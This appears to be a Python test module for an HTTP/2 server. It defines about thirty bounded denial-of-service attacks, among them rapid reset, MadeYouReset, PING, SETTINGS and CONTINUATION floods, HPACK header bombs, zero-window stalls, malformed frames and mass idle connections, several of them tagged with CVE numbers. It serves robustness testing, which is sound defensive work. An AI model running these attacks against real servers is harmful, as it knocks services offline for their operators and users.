"""Attacks on an HTTP/2 server, each a function of its address; all are bounded."""

from __future__ import annotations

import socket
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from itertools import repeat
from typing import Final

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    ExtensionFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.abuse.frames import (
    COMPUTE,
    COMPUTE_STREAM,
    FRAME_BYTES,
    GET_SERVER_INFO,
    Attacker,
    attacker,
    connected,
    data,
    header_lines,
    message,
    stream_ids,
)
from tests.abuse.served import MEBIBYTE, Address

Attack = Callable[[Address], object]

CANCEL: Final = 8
INITIAL_WINDOW: Final = SettingsFrame.INITIAL_WINDOW_SIZE
MOST_STREAMS: Final = 1_000
"""Open at the same time, of an attack that opens many."""


def rapid_reset(address: Address) -> None:
    """CVE-2023-44487: streams that are reset as soon as they were opened."""
    with attacker(address) as enemy:
        enemy.send(_opened_and_reset(enemy, 20_000))


def rapid_reset_of_whole_calls(address: Address) -> None:
    """Calls that the server may begin to answer, and each reset."""
    with attacker(address) as enemy:
        enemy.send(_called_and_reset(enemy, 10_000))


def _opened_and_reset(enemy: Attacker, count: int) -> Iterator[Frame]:
    for stream in stream_ids(count):
        yield enemy.open(stream, COMPUTE)
        yield RstStreamFrame(stream, error_code=CANCEL)


def _called_and_reset(enemy: Attacker, count: int) -> Iterator[Frame]:
    for stream in stream_ids(count):
        yield enemy.open(stream, GET_SERVER_INFO)
        yield from data(stream, message(b""), "END_STREAM")
        yield RstStreamFrame(stream, error_code=CANCEL)


def made_to_reset(address: Address) -> None:
    """CVE-2025-8671: a caller whose window updates make the server reset each stream."""
    with attacker(address) as enemy:
        enemy.send(_wrongly_updated(enemy, 20_000))


def _wrongly_updated(enemy: Attacker, count: int) -> Iterator[Frame]:
    for stream in stream_ids(count):
        yield enemy.open(stream, COMPUTE)
        yield WindowUpdateFrame(stream, window_increment=2**31 - 1)


def ping_flood(address: Address) -> None:
    """CVE-2019-9512: PINGs whose answers are not read."""
    _flood(address, PingFrame(0, b"12345678"), 300_000)


def settings_flood(address: Address) -> None:
    """CVE-2019-9515: SETTINGS whose acknowledgements are not read."""
    _flood(address, SettingsFrame(0, settings={INITIAL_WINDOW: 1}), 200_000)


def priority_flood(address: Address) -> None:
    """CVE-2019-9513: streams that change their priority for ever."""
    _flood(address, PriorityFrame(1, depends_on=0, stream_weight=1), 200_000)


def window_update_flood(address: Address) -> None:
    """Connection windows that grow by one byte at a time."""
    _flood(address, WindowUpdateFrame(0, window_increment=1), 200_000)


def unknown_frames_flood(address: Address) -> None:
    """Frames of a type that does not exist."""
    _flood(address, ExtensionFrame(0xBB, 0, body=bytes(1_000)), 50_000)


def _flood(address: Address, frame: Frame, count: int) -> None:
    with attacker(address) as enemy:
        enemy.send_bytes(repeat(frame.serialize(), count))


def empty_data_flood(address: Address) -> None:
    """CVE-2019-9518: a call's body of empty frames."""
    with attacker(address) as enemy:
        enemy.send([enemy.open(1, COMPUTE)])
        enemy.send_bytes(repeat(DataFrame(1, b"").serialize(), 200_000))


def continuation_flood(address: Address) -> None:
    """CVE-2024-27316: a header that goes on for ever (160 MB of it)."""
    _endless_header(address, ContinuationFrame(1, _literal_header(FRAME_BYTES)), 10_000)


def empty_continuation_flood(address: Address) -> None:
    """A header that goes on for ever without a byte."""
    _endless_header(address, ContinuationFrame(1, b""), 200_000)


def _endless_header(address: Address, frame: Frame, count: int) -> None:
    with attacker(address) as enemy:
        enemy.send([HeadersFrame(1, b"")])
        enemy.send_bytes(repeat(frame.serialize(), count))


def _literal_header(n_bytes: int) -> bytes:
    """Return a header block of one field that is not kept."""
    value = n_bytes - 7
    extended = value - 127
    length = bytes([0x7F, extended & 0x7F | 0x80, extended >> 7])
    return b"\x00\x01x" + length + b"v" * (n_bytes - 6)


def header_bomb(address: Address) -> None:
    """CVE-2016-6581: one byte for each copy of a field of 4,000 bytes, 60 MB in a frame."""
    with attacker(address) as enemy:
        lines = header_lines(COMPUTE, ("x-bomb", "v" * 4_000))
        planted = enemy.head(1, lines)
        enemy.send([planted])
        newest = b"\xbe"
        enemy.send(
            HeadersFrame(stream, newest * (FRAME_BYTES - 10), flags=("END_HEADERS",))
            for stream in stream_ids(50)[1:]
        )


def large_metadata(address: Address) -> None:
    """Metadata of 15 kB, which are let in, on each of many streams."""
    _many_heads(address, [("x-large", "v" * 15_000)])


def many_metadata(address: Address) -> None:
    """A thousand fields of metadata on each of many streams."""
    _many_heads(address, [(f"x-{i}", "v") for i in range(400)])


def _many_heads(address: Address, more: list[tuple[str, str]]) -> None:
    with attacker(address) as enemy:
        lines = header_lines(COMPUTE, *more)
        enemy.send(enemy.head(stream, lines) for stream in stream_ids(MOST_STREAMS))


def zero_window(address: Address) -> None:
    """Calls of 100 kB whose answers the caller never lets out."""
    with attacker(address, {INITIAL_WINDOW: 0}) as enemy:
        enemy.send(_whole_calls(enemy, 200))
        enemy.wait_for_end(1.0)


def _whole_calls(enemy: Attacker, count: int) -> Iterator[Frame]:
    for stream in stream_ids(count):
        yield enemy.open(stream, GET_SERVER_INFO)
        yield from data(stream, message(b""), "END_STREAM")


def gigantic_prefix(address: Address) -> None:
    """Messages that say they have 4 GB."""
    with attacker(address) as enemy:
        enemy.send(_begun(enemy, message(bytes(1_000), length=2**32 - 1), MOST_STREAMS))


def half_messages(address: Address) -> None:
    """Messages of 1 MB of which 30 bytes come."""
    with attacker(address) as enemy:
        enemy.send(_begun(enemy, message(bytes(30), length=MEBIBYTE), MOST_STREAMS))


def half_prefixes(address: Address) -> None:
    """Messages of which three bytes of the prefix come."""
    with attacker(address) as enemy:
        enemy.send(_begun(enemy, message(b"", length=MEBIBYTE)[:3], MOST_STREAMS))


def half_streams(address: Address) -> None:
    """The same in streams."""
    with attacker(address) as enemy:
        enemy.send(_begun(enemy, message(bytes(30), length=MEBIBYTE), MOST_STREAMS, COMPUTE_STREAM))


def _begun(enemy: Attacker, payload: bytes, count: int, path: str = COMPUTE) -> Iterator[Frame]:
    for stream in stream_ids(count):
        yield enemy.open(stream, path)
        yield from data(stream, payload)


def data_without_a_stream(address: Address) -> None:
    """DATA on streams that nobody opened."""
    with attacker(address) as enemy:
        enemy.send(DataFrame(stream, bytes(1_000)) for stream in stream_ids(10_000))


def streams_backwards(address: Address) -> None:
    """Streams whose numbers go down, and an even one."""
    with attacker(address) as enemy:
        enemy.send(enemy.open(stream, COMPUTE) for stream in (99, 51, 3, 2, 1))


def oversized_frame(address: Address) -> None:
    """A frame that says it has 16 MB."""
    with attacker(address) as enemy:
        enemy.send_bytes([b"\xff\xff\xff\x00\x00\x00\x00\x00\x01", bytes(FRAME_BYTES)])


def overflowing_window(address: Address) -> None:
    """A connection window above 2³¹ − 1."""
    with attacker(address) as enemy:
        enemy.send([WindowUpdateFrame(0, window_increment=2**31 - 1)] * 3)


def broken_header_block(address: Address) -> None:
    """A header block that is none."""
    with attacker(address) as enemy:
        enemy.send([HeadersFrame(1, b"\xff" * 1_000, flags=("END_HEADERS",))])


def bad_settings(address: Address) -> None:
    """SETTINGS of five bytes, with an identifier's half."""
    with attacker(address) as enemy:
        enemy.send_bytes([b"\x00\x00\x05\x04\x00\x00\x00\x00\x00", bytes(5)])


def tls_hello(address: Address) -> None:
    """The hello of TLS where none is spoken."""
    _say(address, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(505))


def http1_request(address: Address) -> None:
    """HTTP/1.1 where HTTP/2 is spoken."""
    _say(address, b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")


def noise(address: Address) -> None:
    """Bytes without any meaning."""
    for seed in range(50):
        _say(address, (seed.to_bytes(1, "big") * 7 + b"\x80\x00\xff") * 200)


def silence(address: Address) -> None:
    """A thousand connections without a word, all at once."""
    with ExitStack() as stack:
        for _ in range(MOST_STREAMS):
            stack.enter_context(connected(address))


def hasty_goodbyes(address: Address) -> None:
    """A thousand connections that are reset in the middle of the preface."""
    for _ in range(MOST_STREAMS):
        with socket.create_connection(address) as connection:
            connection.sendall(b"PRI * HT")
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")


def _say(address: Address, words: bytes) -> None:
    with connected(address) as enemy:
        enemy.send_bytes([words])


ATTACKS: Final[tuple[Attack, ...]] = (
    rapid_reset,
    rapid_reset_of_whole_calls,
    made_to_reset,
    ping_flood,
    settings_flood,
    priority_flood,
    window_update_flood,
    unknown_frames_flood,
    empty_data_flood,
    continuation_flood,
    empty_continuation_flood,
    header_bomb,
    large_metadata,
    many_metadata,
    zero_window,
    gigantic_prefix,
    half_messages,
    half_prefixes,
    half_streams,
    data_without_a_stream,
    streams_backwards,
    oversized_frame,
    overflowing_window,
    broken_header_block,
    bad_settings,
    tls_hello,
    http1_request,
    noise,
    silence,
    hasty_goodbyes,
)
